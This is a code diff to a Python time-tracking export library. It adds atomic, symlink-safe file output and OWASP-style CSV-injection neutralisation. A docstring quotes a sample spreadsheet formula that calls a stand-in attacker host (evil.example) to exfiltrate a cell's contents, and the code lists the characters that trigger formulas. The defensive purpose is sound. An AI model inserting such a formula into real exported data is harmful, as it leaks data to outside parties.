@@ -22,8 +22,9 @@ delivered when they land ahead of the cursor (new entries normally do: their ``c
 "now") and are not required otherwise; deleted entries may or may not appear.
 
 :func:`iter_time_entries_consistent` streams entries with a resumable :class:`ExportCheckpoint`;
-:func:`export_time_entries` writes JSONL or CSV to an open binary file, persisting checkpoints
-atomically so that ``resume=True`` continues a crashed export byte-identically. Memory stays
+:func:`export_time_entries` writes JSONL or CSV to a path (replaced only when the export
+succeeded) or an open binary file, persisting checkpoints atomically so that ``resume=True``
+continues a crashed export byte-identically. Memory stays
 flat: at most two pages are held. Each window depends on the previous page, so windows are
 requested one after another; the next one is sent as soon as a page arrives, while the caller
 still works through it, and 1000-entry pages keep the request count low.
@@ -56,6 +57,7 @@ import orjson
 from . import _constants as C
 from ._converter import JSONValue, structure, unstructure
 from ._exceptions import APIResponseValidationError
+from ._files import create_temp_beside, discard_temp, replace_with, write_atomic
 from ._paginator import validate_page_size
 from ._response import RawResponse, capture_responses
 from ._timeutil import format_datetime, parse_utc_datetime
@@ -69,6 +71,7 @@ if TYPE_CHECKING:
 
 __all__ = [
     "CSV_COLUMNS",
+    "CSV_TEXT_COLUMNS",
     "DEFAULT_ORDERED_PREFETCH",
     "ExportCheckpoint",
     "ExportFormat",
@@ -80,6 +83,7 @@ __all__ = [
     "entry_to_row",
     "export_time_entries",
     "iter_time_entries_consistent",
+    "neutralise_csv_cell",
     "read_checkpoint",
     "window_query",
     "write_atomic",
@@ -525,27 +529,12 @@ def read_checkpoint(path: Path) -> ExportCheckpoint | None:
     return ExportCheckpoint.from_json(text)
 
 
-def write_atomic(path: Path, data: bytes) -> None:
-    """Replace ``path`` with ``data`` atomically: write a temporary file, fsync, ``os.replace``.
-
-    A crash leaves either the old or the new content, never a mix.
-    """
-    tmp = path.with_name(path.name + ".tmp")
-    with open(tmp, "wb") as handle:
-        handle.write(data)
-        handle.flush()
-        os.fsync(handle.fileno())
-    os.replace(tmp, path)
-    with contextlib.suppress(OSError):  # make the rename durable (POSIX; not on Windows)
-        directory = os.open(path.parent, os.O_RDONLY)
-        try:
-            os.fsync(directory)
-        finally:
-            os.close(directory)
-
-
 def write_checkpoint(path: Path, checkpoint: ExportCheckpoint) -> None:
-    """Store ``checkpoint`` at ``path`` atomically (see :func:`write_atomic`)."""
+    """Store ``checkpoint`` at ``path`` atomically (see :func:`write_atomic`).
+
+    The temporary file is created exclusively beside ``path`` and renamed over it, so a file
+    or symlink planted at ``path`` or at a guessable temporary name is never written through.
+    """
     write_atomic(path, checkpoint.to_json().encode())
 
 
@@ -734,12 +723,37 @@ def entry_to_json_line(entry: TimeEntry | Row) -> bytes:
     return orjson.dumps(data, option=orjson.OPT_APPEND_NEWLINE)
 
 
-class _CsvEncoder:
-    """Encodes rows as RFC 4180 CSV lines (CRLF, quoting as needed), UTF-8."""
+#: Columns whose cells come from free text of the workspace (a string field of the entry or of
+#: a referenced user, project, task or type of work). Only these are neutralised (see
+#: :func:`neutralise_csv_cell`); the others are rendered from numbers, booleans, UUIDs and
+#: date-times, so ``-3600`` stays a number.
+CSV_TEXT_COLUMNS: Final[frozenset[str]] = frozenset(
+    {"user_name", "project_name", "task_name", "type_of_work_name", "note", "timezone"}
+)
+#: First characters that make a spreadsheet read a cell as a formula (OWASP CSV injection).
+_FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
 
-    def __init__(self) -> None:
+
+def neutralise_csv_cell(value: str) -> str:
+    """``value`` with a leading ``'`` when it starts with ``= + - @``, a tab or a carriage return.
+
+    Spreadsheets (Excel, LibreOffice, Google Sheets) evaluate such a cell as a formula, e.g.
+    ``=HYPERLINK("https://evil.example/?"&A1, "click")``; the quote makes them show it as text.
+    This is OWASP's CSV-injection guidance. Other values are returned unchanged.
+    """
+    return "'" + value if value.startswith(_FORMULA_TRIGGERS) else value
+
+
+class _CsvEncoder:
+    """Encodes rows as RFC 4180 CSV lines (CRLF, quoting as needed), UTF-8.
+
+    Cells of :data:`CSV_TEXT_COLUMNS` are neutralised unless ``raw_values``.
+    """
+
+    def __init__(self, *, raw_values: bool = False) -> None:
         self._buffer = io.StringIO()
         self._writer = csv.writer(self._buffer)
+        self._raw = raw_values
 
     def line(self, values: Sequence[str]) -> bytes:
         self._buffer.seek(0)
@@ -752,7 +766,14 @@ class _CsvEncoder:
 
     def entry(self, entry: TimeEntry) -> bytes:
         row = entry_to_row(entry)
-        return self.line([row[column] for column in CSV_COLUMNS])
+        if self._raw:
+            return self.line([row[column] for column in CSV_COLUMNS])
+        return self.line(
+            [
+                neutralise_csv_cell(row[column]) if column in CSV_TEXT_COLUMNS else row[column]
+                for column in CSV_COLUMNS
+            ]
+        )
 
 
 # ------------------------------------------------------------------------------ file export
@@ -814,6 +835,174 @@ def _prepare_resume(output: BinaryIO, offset: int) -> None:
         )
     output.truncate(offset)
     output.seek(offset)
+
+
+async def _off_loop(work: Callable[[], None]) -> None:
+    """Run blocking file work (fsync, rename) in a thread; a cancellation waits for it to end.
+
+    The cancellation is raised once the thread is done, so the clean-up that follows never
+    races a rename that is still under way.
+    """
+    task = asyncio.ensure_future(asyncio.to_thread(work))
+    try:
+        await asyncio.shield(task)
+    except asyncio.CancelledError:
+        with contextlib.suppress(BaseException):
+            await task
+        raise
+
+
+class _StreamSink:
+    """A caller-owned binary stream: written from its position, never closed nor cleaned up."""
+
+    def __init__(
+        self,
+        output: BinaryIO,
+        *,
+        checkpoint_path: Path | None,
+        resume: bool,
+        offset: int | None,
+        preamble: bytes,
+    ) -> None:
+        self.output = output
+        self.checkpoint_path = checkpoint_path
+        if offset is not None:
+            _prepare_resume(output, offset)
+            self.position = offset
+        else:
+            self.position = output.tell() if output.seekable() else 0
+            if resume and output.seekable():
+                output.truncate(self.position)
+            self.write(preamble)
+
+    def write(self, data: bytes) -> None:
+        self.output.write(data)
+        self.position += len(data)
+
+    def _save(self, point: ExportCheckpoint) -> None:
+        _sync_output(self.output)
+        if self.checkpoint_path is not None:
+            write_checkpoint(self.checkpoint_path, point)
+
+    async def save(self, point: ExportCheckpoint) -> None:
+        await _off_loop(lambda: self._save(point))
+
+    async def finish(self, point: ExportCheckpoint) -> None:
+        await self.save(point)
+
+    def abandon(self) -> None:
+        """Nothing to undo: what was written stays, for the caller to keep or drop."""
+
+
+def _open_in_place(path: Path) -> BinaryIO:
+    """``path`` opened for update without following a symlink (created when missing)."""
+    try:
+        fd = os.open(path, os.O_RDWR | os.O_CREAT | getattr(os, "O_NOFOLLOW", 0), 0o666)
+    except OSError as exc:
+        if os.path.islink(path):
+            raise ValueError(
+                f"{path} is a symbolic link; a resumed export does not follow it"
+            ) from None
+        raise exc from None
+    return os.fdopen(fd, "r+b")
+
+
+class _FileSink:
+    """An output path owned by the export (the rules are in :func:`export_time_entries`).
+
+    A fresh export writes an exclusive temporary file beside the target and renames it over
+    the target when it succeeded (``promote``: already at the first checkpoint, so that a
+    resumable export can continue after a crash). A resumed export continues the target in
+    place, opened only when the first line is written, so a failure before that changes
+    nothing.
+    """
+
+    def __init__(
+        self,
+        path: Path,
+        *,
+        checkpoint_path: Path | None,
+        promote: bool,
+        offset: int | None,
+        preamble: bytes,
+    ) -> None:
+        self.path = path
+        self.checkpoint_path = checkpoint_path
+        self.promote = promote
+        self.handle: BinaryIO | None = None
+        self.tmp: Path | None = None
+        if offset is not None:
+            if path.is_symlink():
+                raise ValueError(f"{path} is a symbolic link; a resumed export does not follow it")
+            _check_resumable_size(path, offset)
+            self.position = self.offset = offset
+        else:
+            self.handle, self.tmp = create_temp_beside(path)
+            self.position = self.offset = 0
+            self.write(preamble)
+
+    def _opened(self) -> BinaryIO:
+        if self.handle is None:
+            self.handle = _open_in_place(self.path)
+            _prepare_resume(self.handle, self.offset)
+        return self.handle
+
+    def write(self, data: bytes) -> None:
+        self._opened().write(data)
+        self.position += len(data)
+
+    def _into_place(self) -> None:
+        """Rename the temporary file over the target (any older checkpoint is removed first)."""
+        assert self.handle is not None
+        assert self.tmp is not None
+        if self.checkpoint_path is not None:
+            # The old checkpoint describes the old file: never leave it beside the new one.
+            with contextlib.suppress(FileNotFoundError):
+                self.checkpoint_path.unlink()
+        handle, tmp, self.handle, self.tmp = self.handle, self.tmp, None, None
+        replace_with(handle, tmp, self.path)
+        self.offset = self.position
+
+    def _save(self, point: ExportCheckpoint, *, last: bool) -> None:
+        if self.tmp is not None:
+            if not (last or self.promote):
+                return  # all or nothing: the target is replaced only at the end
+            self._into_place()
+        else:
+            _sync_output(self._opened())
+        if self.checkpoint_path is not None:
+            write_checkpoint(self.checkpoint_path, point)
+        if last and self.handle is not None:
+            self.handle.close()
+            self.handle = None
+
+    async def save(self, point: ExportCheckpoint) -> None:
+        await _off_loop(lambda: self._save(point, last=False))
+
+    async def finish(self, point: ExportCheckpoint) -> None:
+        await _off_loop(lambda: self._save(point, last=True))
+
+    def abandon(self) -> None:
+        """Close the file; a temporary file not yet in place is removed."""
+        handle, tmp, self.handle, self.tmp = self.handle, self.tmp, None, None
+        if handle is not None:
+            with contextlib.suppress(OSError):
+                handle.close()
+        if tmp is not None:
+            discard_temp(tmp)
+
+
+def _check_resumable_size(path: Path, offset: int) -> None:
+    """``ValueError`` unless ``path`` has at least ``offset`` bytes (checked before any request)."""
+    try:
+        size = os.stat(path).st_size
+    except FileNotFoundError:
+        size = 0
+    if size < offset:
+        raise ValueError(
+            f"the output has {size} bytes but the checkpoint expects at least {offset}: "
+            "it is not the file this checkpoint belongs to"
+        )
 
 
 class _KeysetRows:
@@ -902,7 +1091,7 @@ def _not_an_object(raw: RawResponse) -> APIResponseValidationError:
 
 async def export_time_entries(
     client: AworkClient,
-    output: BinaryIO,
+    output: BinaryIO | str | os.PathLike[str],
     *,
     format: ExportFormat,
     filterby: FilterLike = None,
@@ -913,6 +1102,7 @@ async def export_time_entries(
     on_progress: Callable[[int, int | None], None] | None = None,
     checkpoint_every: int = DEFAULT_CHECKPOINT_EVERY,
     prefetch: int = DEFAULT_ORDERED_PREFETCH,
+    csv_raw_values: bool = False,
 ) -> ExportSummary:
     """Stream every matching time entry to ``output`` as JSONL or CSV.
 
@@ -927,8 +1117,29 @@ async def export_time_entries(
       (in a sort key) during the export, some may be skipped or written twice. End the order
       with a unique key (``,id``) so that ties are not ordered differently from page to page.
 
+    Who owns the output, and what a failure leaves:
+
+    * **a path** (``str`` or :class:`~pathlib.Path`): the export owns the file. Without
+      ``resume`` it writes an exclusively created temporary file in the same directory
+      (``.NAME.XXXXXXXX.tmp``), fsyncs it and renames it over ``output`` only when the export
+      succeeded. Any failure (a rejected token, an unreachable server, a refused filter,
+      cancellation, any exception) leaves an existing file byte for byte as it was, creates
+      no new file and removes the temporary one; ``checkpoint_path`` is written only at the
+      end (after the rename; an older checkpoint is removed just before it). With ``resume``
+      and a checkpoint, the file is continued in place from the checkpoint's offset; it is
+      opened only when the first new line is written, so a failure before that changes
+      nothing, and a failure after it leaves the file with a checkpoint to resume from. With
+      ``resume`` and no checkpoint yet, the export starts in a temporary file that replaces
+      ``output`` at the first checkpoint (from then on a crash can be resumed). The rename
+      replaces a symlink at ``output`` rather than following it; a resumed export refuses a
+      symlink.
+    * **an open binary file** (or ``sys.stdout.buffer``): the caller owns it. Writing starts
+      at its position; it is never closed. On failure the lines written so far stay in it
+      (the export neither truncates nor removes anything): discard the file, or resume it
+      from ``checkpoint_path``, whose offset covers only complete, fsynced lines.
+
     Args:
-        output: an open binary file (or ``sys.stdout.buffer``). Writing starts at its position.
+        output: the path to write, or an open binary file (see above).
         format: ``"jsonl"`` (one API object per line, lossless) or ``"csv"`` (a header, then
             :data:`CSV_COLUMNS`).
         filterby: a filter string or :mod:`awork_async.filters` expression.
@@ -938,7 +1149,8 @@ async def export_time_entries(
         checkpoint_path: where to keep an :class:`ExportCheckpoint`. It is written atomically
             every ``checkpoint_every`` entries (in ordered mode: at the first page boundary
             after them) and at the end, always after the output has been flushed and fsynced,
-            and records the output's byte offset.
+            and records the output's byte offset. (A path ``output`` without ``resume`` gets
+            only the final checkpoint: until then the data is in the temporary file.)
         resume: continue from the checkpoint at ``checkpoint_path`` (start afresh when there is
             none). The output (opened ``r+b`` or ``ab``) is truncated to the recorded offset, so
             a line cut by a crash is dropped and the result is byte-identical to an uninterrupted
@@ -950,6 +1162,11 @@ async def export_time_entries(
             ``page_size`` entries written (once per full page) and at the end; the estimate
             comes from ``aw-totalitems``.
         prefetch: ordered mode only: pages requested ahead of the writer (0 = one at a time).
+        csv_raw_values: CSV only: write free-text cells (notes and names, see
+            :data:`CSV_TEXT_COLUMNS`) exactly as stored. By default a cell starting with
+            ``= + - @``, a tab or a carriage return gets a leading ``'`` (see
+            :func:`neutralise_csv_cell`) so a spreadsheet does not run it as a formula.
+            Resume with the same setting: the checkpoint does not record it.
 
     Returns an :class:`ExportSummary`. Requests, retries and 429s are counted from the answers
     received (via :func:`~awork_async.capture_responses`).
@@ -984,48 +1201,50 @@ async def export_time_entries(
         source = _KeysetRows(walk, first.count)
     else:
         source = _OrderedRows(client, first, prefetch=prefetch)
-    encoder = _CsvEncoder()
-    if previous is not None:
-        assert previous.byte_offset is not None
-        _prepare_resume(output, previous.byte_offset)
-        position = previous.byte_offset
+    encoder = _CsvEncoder(raw_values=csv_raw_values)
+    offset = None if previous is None else previous.byte_offset
+    preamble = encoder.header() if format == "csv" else b""
+    sink: _StreamSink | _FileSink
+    if isinstance(output, (str, os.PathLike)):
+        sink = _FileSink(
+            Path(output),
+            checkpoint_path=checkpoint_path,
+            promote=resume,
+            offset=offset,
+            preamble=preamble,
+        )
     else:
-        position = output.tell() if output.seekable() else 0
-        if resume and output.seekable():
-            output.truncate(position)
-        if format == "csv":
-            header = encoder.header()
-            output.write(header)
-            position += len(header)
+        sink = _StreamSink(
+            output, checkpoint_path=checkpoint_path, resume=resume, offset=offset, preamble=preamble
+        )
     done = base = first.count
-    last = attrs.evolve(first, byte_offset=position)
+    last = attrs.evolve(first, byte_offset=sink.position)
     tally = _Tally()
-
-    async def save(point: ExportCheckpoint) -> None:
-        await asyncio.to_thread(_sync_output, output)
-        if checkpoint_path is not None:
-            await asyncio.to_thread(write_checkpoint, checkpoint_path, point)
-
-    async with capture_responses() as responses, contextlib.aclosing(source.rows()) as rows:
-        since = 0
-        async for row, point in rows:
-            line = entry_to_json_line(row) if format == "jsonl" else encoder.entry(_to_entry(row))
-            output.write(line)
-            position += len(line)
-            done += 1
-            since += 1
-            if on_progress is not None and (done - base) % page_size == 0:
-                on_progress(done, source.estimate())  # once per page's worth of entries
-            if point is None:
-                continue
-            last = attrs.evolve(point, byte_offset=position, format=format)
-            if since >= checkpoint_every:
-                since = 0
-                await save(last)
-                tally.drain(responses)
-        last = attrs.evolve(last, byte_offset=position, format=format, complete=True)
-        await save(last)
-        tally.drain(responses)
+    try:
+        async with capture_responses() as responses, contextlib.aclosing(source.rows()) as rows:
+            since = 0
+            async for row, point in rows:
+                if format == "jsonl":
+                    sink.write(entry_to_json_line(row))
+                else:
+                    sink.write(encoder.entry(_to_entry(row)))
+                done += 1
+                since += 1
+                if on_progress is not None and (done - base) % page_size == 0:
+                    on_progress(done, source.estimate())  # once per page's worth of entries
+                if point is None:
+                    continue
+                last = attrs.evolve(point, byte_offset=sink.position, format=format)
+                if since >= checkpoint_every:
+                    since = 0
+                    await sink.save(last)
+                    tally.drain(responses)
+            last = attrs.evolve(last, byte_offset=sink.position, format=format, complete=True)
+            await sink.finish(last)
+            tally.drain(responses)
+    except BaseException:
+        sink.abandon()
+        raise
     if on_progress is not None:
         on_progress(done, source.estimate())
     return ExportSummary(
